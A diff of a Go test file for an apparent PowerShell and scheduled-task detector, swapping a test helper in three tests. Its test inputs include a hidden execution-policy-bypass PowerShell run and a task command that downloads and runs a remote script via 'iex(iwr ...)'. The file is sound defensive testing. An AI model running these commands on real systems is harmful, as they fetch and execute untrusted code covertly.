@@ -145,7 +145,7 @@ func TestExcerpt(t *testing.T) {
 // TestScriptBlock: a PowerShell run from a file says nothing in its command
 // line; its script block (4104) says what it ran.
 func TestScriptBlock(t *testing.T) {
-	d := shipped(t, WebServicesFile)
+	d := testDetector(t)
 	w := d.Weights()
 	ps := b(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`)
 	fileRun := b(`powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File C:\Users\Public\sync.ps1`)
@@ -252,7 +252,7 @@ func TestScriptBlock(t *testing.T) {
 
 // TestJudgeTask: a task's creation is judged before it first runs.
 func TestJudgeTask(t *testing.T) {
-	d := shipped(t, WebServicesFile)
+	d := testDetector(t)
 	w := d.Weights()
 	iex := `-NoProfile -WindowStyle Hidden -Command "iex(iwr https://raw.githubusercontent.com/x/y/main/a.ps1 -UseBasicParsing)"`
 	task, err := ParseTaskXML([]byte(taskXMLFor(`CORP\jdoe`, `\Updater`, hourly, "true", "powershell.exe", iex)))
@@ -308,7 +308,7 @@ func hasCC(r *Result) bool {
 func b2i(v bool) int { return B2I(v) }
 
 func TestScriptOfInterest(t *testing.T) {
-	d := shipped(t, WebServicesFile)
+	d := testDetector(t)
 	tests := []struct {
 		name, script string
 		want         bool
